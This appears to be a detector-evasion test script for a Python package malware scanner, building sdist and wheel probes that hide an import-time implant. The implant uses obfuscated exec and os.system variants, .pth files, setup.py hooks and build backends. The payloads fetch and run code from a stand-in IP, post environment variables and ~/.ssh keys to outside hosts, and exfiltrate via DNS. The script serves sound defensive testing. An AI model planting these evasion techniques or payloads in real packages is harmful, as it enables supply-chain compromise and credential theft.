// Evasion probes through the bundled CLI: an import-time implant rewritten the ways someone who has read this
// repository might try (other spellings of exec and os.system, functions handed to a caller, ctypes, DNS, ...)
// and hidden where a reader might not look (bytecode, data files run as Python, in-tree build backends,
// wheel .data folders). Each sits in a package of honest modules, is written to a temp dir and judged by
// `node dist/cli.js inspect --json`; the script prints each verdict and how many probes were not malicious.
// A bytecode probe is caught when it is unscannable: the gate cannot read it, and says so.
//
//   npm run build && npx tsx scripts/evasion-probes.ts
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { makeTarGz, makeWheel } from '../test/fixtures/archives.js';

const PKG_INFO = 'Metadata-Version: 2.1\nName: p\nVersion: 1.0\nSummary: Small helpers\n\nSmall helpers.\n';
const HONEST: Record<string, string> = Object.fromEntries(
  Array.from({ length: 8 }, (_, i) => [
    `p/util${i}.py`,
    `def add${i}(a, b):\n    """Adds."""\n    return a + b + ${i}\n`,
  ]),
);
const b64 = Buffer.from("import os; os.system('curl -s http://203.0.113.9/x | sh')").toString('base64');
const PAY = "import os; os.system('curl -s http://203.0.113.9/x | sh')\n";

/** The payload rewritten, as the whole of p/__init__.py. */
const REWRITES: Record<string, string> = {
  'escaped-names': `import base64\nexec(getattr(__import__('\\x62ase64'), '\\x62\\x364decode')('${b64}'))\n`,
  'implicit-concat': `import base64 as b\ngetattr(b, 'b64' 'decode')\nexec(b.b64decode('${b64}'))\n`,
  'compile-exec': `import base64\ncode = compile(base64.b64decode('${b64}'), '<p>', 'exec')\nexec(code)\n`,
  'eval-compile': `import base64\neval(compile(base64.b64decode('${b64}').decode(), '<p>', 'exec'))\n`,
  b85: `import base64\nexec(base64.b85decode('${Buffer.from(Buffer.from(b64, 'base64')).toString('base64')}'))\n`,
  xor: `k = 0x42\ndata = bytes([${[...Buffer.from(Buffer.from(b64, 'base64'))].map((c) => c ^ 0x42).join(',')}])\nexec(bytes(b ^ k for b in data).decode())\n`,
  'ctypes-system': `import ctypes\nctypes.CDLL(None).system(b"curl -s http://203.0.113.9/x | sh")\n`,
  execvp: `import os\nif os.fork() == 0:\n    os.execvp('sh', ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'])\n`,
  'posix-spawn': `import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'], os.environ)\n`,
  'importlib-popen': `import importlib\nsp = importlib.import_module('sub' + 'process')\ngetattr(sp, 'Po' + 'pen')(['sh', '-c', 'curl -s http://203.0.113.9/x | sh'])\n`,
  'dns-exfil': `import socket, os, getpass\ntry:\n    socket.gethostbyname(getpass.getuser() + '.' + os.uname()[1] + '.oast.example.net')\nexcept Exception:\n    pass\n`,
  'env-post-urllib': `import os, json, urllib.request\ntry:\n    urllib.request.urlopen(urllib.request.Request('https://collect.example.net/e', data=json.dumps(dict(os.environ)).encode()))\nexcept Exception:\n    pass\n`,
  'env-httpclient': `import os, json, http.client\nc = http.client.HTTPSConnection('collect.example.net')\nc.request('POST', '/e', json.dumps(dict(os.environ)))\n`,
  'atexit-lambda': `import atexit, os\natexit.register(lambda: os.system('curl -s http://203.0.113.9/x | sh'))\n`,
  'class-body': `import os\nclass Config:\n    os.system('curl -s http://203.0.113.9/x | sh')\n`,
  decorator: `import os\ndef register(f):\n    os.system('curl -s http://203.0.113.9/x | sh')\n    return f\n@register\ndef helper():\n    pass\n`,
  'alias-exec': `import base64\nrun = exec\nrun(base64.b64decode('${b64}'))\n`,
  'builtins-module': `import builtins as b, base64\nb.exec(base64.b64decode('${b64}'))\n`,
  'globals-builtins': `import base64\nglobals()['__builtins__']['exec' if isinstance(globals()['__builtins__'], dict) else 0](base64.b64decode('${b64}'))\n`,
  'bytes-list': `import os\nos.system(bytes([${[...Buffer.from('curl -s http://203.0.113.9/x | sh')].join(',')}]).decode())\n`,
  fromhex: `import os\nos.system(bytes.fromhex('${Buffer.from('curl -s http://203.0.113.9/x | sh').toString('hex')}').decode())\n`,
  'reversed-zlib': `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${Buffer.from(deflateSync(Buffer.from(b64, 'base64'))).toString('base64')}'[::-1][::-1])))\n`,
  'data-file-exec': `import os, zlib\nexec(zlib.decompress(open(os.path.join(os.path.dirname(__file__), 'x.bin'), 'rb').read()))\n`,
  'remote-exec': `import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.9/x.py').read())\n`,
  'download-run': `import urllib.request, subprocess, tempfile, os\np = os.path.join(tempfile.gettempdir(), 'u.exe')\nurllib.request.urlretrieve('http://203.0.113.9/u.exe', p)\nsubprocess.Popen([p])\n`,
  'marshal-func': `import marshal, types, base64\ntypes.FunctionType(marshal.loads(base64.b64decode('YwAAAA==')), globals())()\n`,
  'getattr-os-system-var': `import os\nf = getattr(os, 'sys' + 'tem')\ncmd = 'curl -s http://203.0.113.9/x | sh'\nf(cmd)\n`,
  'subprocess-shell-list': `import subprocess\nsubprocess.run(['bash', '-c', 'curl -s http://203.0.113.9/x | bash'])\n`,
  'webhook-steal': `import os, requests\nfor root, _, files in os.walk(os.path.expanduser('~/.ssh')):\n    for f in files:\n        requests.post('https://discord.com/api/webhooks/1/x', files={'f': open(os.path.join(root, f), 'rb')})\n`,
  'lambda-top': `import os\n(lambda c: os.system(c))('curl -s http://203.0.113.9/x | sh')\n`,
  'map-call': `import os\nlist(map(os.system, ['curl -s http://203.0.113.9/x | sh']))\n`,
  'sys-modules': `import sys, base64\nsys.modules['builtins'].__dict__['exec'](base64.b64decode('${b64}'))\n`,
  'operator-call': `import operator, os\noperator.methodcaller('system', 'curl -s http://203.0.113.9/x | sh')(os)\n`,
};

const sdist = (files: Record<string, string>) =>
  makeTarGz(
    [['PKG-INFO', PKG_INFO], ...Object.entries({ 'p/__init__.py': '', ...HONEST, ...files })].map(
      ([path, data]) => ({
        path: `p-1.0/${path}`,
        data,
      }),
    ),
  );
const wheel = (files: Record<string, string | Uint8Array>) =>
  makeWheel({ name: 'p', version: '1.0', files: { 'p/__init__.py': '', ...HONEST, ...files } });
const backend = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n';
const pyc = new Uint8Array([0xcb, 0x0d, 0x0d, 0x0a, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xe3]);

/** The payload kept where a reader might not look. */
const HIDING_PLACES: Record<string, () => Buffer> = {
  'in-tree build backend, top level': () =>
    sdist({
      'pyproject.toml': backend,
      '_build/backend.py': `${PAY}def build_wheel(*a, **k):\n    return ''\n`,
    }),
  'in-tree build backend, build_wheel': () =>
    sdist({
      'pyproject.toml': backend,
      '_build/backend.py':
        "import os\ndef build_wheel(*a, **k):\n    os.system('curl -s http://203.0.113.9/x | sh')\n    return ''\n",
    }),
  'wheel .data/purelib .pth': () => wheel({ 'p-1.0.data/purelib/zz.pth': PAY }),
  'wheel .data/platlib .pth': () => wheel({ 'p-1.0.data/platlib/zz.pth': PAY }),
  'sourceless .pyc imported by __init__': () =>
    wheel({ 'p/__init__.py': 'from p.core import *\n', 'p/core.pyc': pyc }),
  'unchecked-hash cache beside honest source': () =>
    wheel({
      'p/__init__.py': 'from p.core import *\n',
      'p/core.py': 'X = 1\n',
      'p/__pycache__/core.cpython-312.pyc': pyc,
    }),
  'data file run by SourceFileLoader': () =>
    wheel({
      'p/__init__.py':
        "import importlib.machinery, os\nimportlib.machinery.SourceFileLoader('x', os.path.join(os.path.dirname(__file__), 'res.dat')).load_module()\n",
      'p/res.dat': PAY,
    }),
  'data file run by runpy': () =>
    wheel({
      'p/__init__.py':
        "import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'res.txt'))\n",
      'p/res.txt': PAY,
    }),
  'sitecustomize.py': () => wheel({ 'sitecustomize.py': PAY }),
  'usercustomize.py in .data/purelib': () => wheel({ 'p-1.0.data/purelib/usercustomize.py': PAY }),
  'setup.py cmdclass egg_info': () =>
    sdist({
      'setup.py':
        "from setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nimport os\nclass E(egg_info):\n    def run(self):\n        os.system('curl -s http://203.0.113.9/x | sh')\n        egg_info.run(self)\nsetup(name='p', version='1.0', cmdclass={'egg_info': E})\n",
    }),
  'setup.py imports a local helper': () =>
    sdist({
      'setup.py': "from setuptools import setup\nimport _helpers\nsetup(name='p', version='1.0')\n",
      '_helpers.py': PAY,
    }),
  'setup.py execs a data file': () =>
    sdist({
      'setup.py':
        "from setuptools import setup\nexec(open('p/_version.txt').read())\nsetup(name='p', version='1.0')\n",
      'p/_version.txt': PAY,
    }),
};

const dir = mkdtempSync(join(tmpdir(), 'pmg-evasion-'));
try {
  const probes: [string, string, Buffer][] = [
    ...Object.entries(REWRITES).map(([name, source]): [string, string, Buffer] => [
      'rewrite',
      name,
      sdist({ 'p/__init__.py': source }),
    ]),
    ...Object.entries(HIDING_PLACES).map(([name, make]): [string, string, Buffer] => [
      'hiding place',
      name,
      make(),
    ]),
  ];
  const files = probes.map(([, , bytes], i) => {
    const file = join(dir, `probe${i}-1.0${bytes[0] === 0x50 ? '-py3-none-any.whl' : '.tar.gz'}`);
    writeFileSync(file, bytes);
    return file;
  });
  let stdout: string;
  try {
    stdout = execFileSync(process.execPath, ['dist/cli.js', 'inspect', ...files, '--json'], {
      encoding: 'utf8',
      maxBuffer: 64 << 20,
    });
  } catch (err) {
    stdout = (err as { stdout: string }).stdout; // exit 1: some verdict failed the check, as it should
  }
  const results = stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as { file: string; verdict: string; evidence?: { rule: string }[] });
  const missed = new Map<string, number>();
  probes.forEach(([kind, name], i) => {
    const r = results.find((x) => x.file === files[i]);
    const verdict = r?.verdict ?? 'no result';
    const caught = verdict === 'malicious' || (verdict === 'unscannable' && /\.pyc|cache/.test(name));
    if (!caught) missed.set(kind, (missed.get(kind) ?? 0) + 1);
    console.log(
      `${caught ? '  ' : '! '}${kind.padEnd(13)} ${name.padEnd(40)} ${verdict}${r?.evidence?.[0] ? ` (${r.evidence[0].rule})` : ''}`,
    );
  });
  for (const kind of ['rewrite', 'hiding place'])
    console.log(
      `${kind}: ${probes.filter(([k]) => k === kind).length - (missed.get(kind) ?? 0)} of ${probes.filter(([k]) => k === kind).length} caught`,
    );
} finally {
  rmSync(dir, { recursive: true, force: true });
}
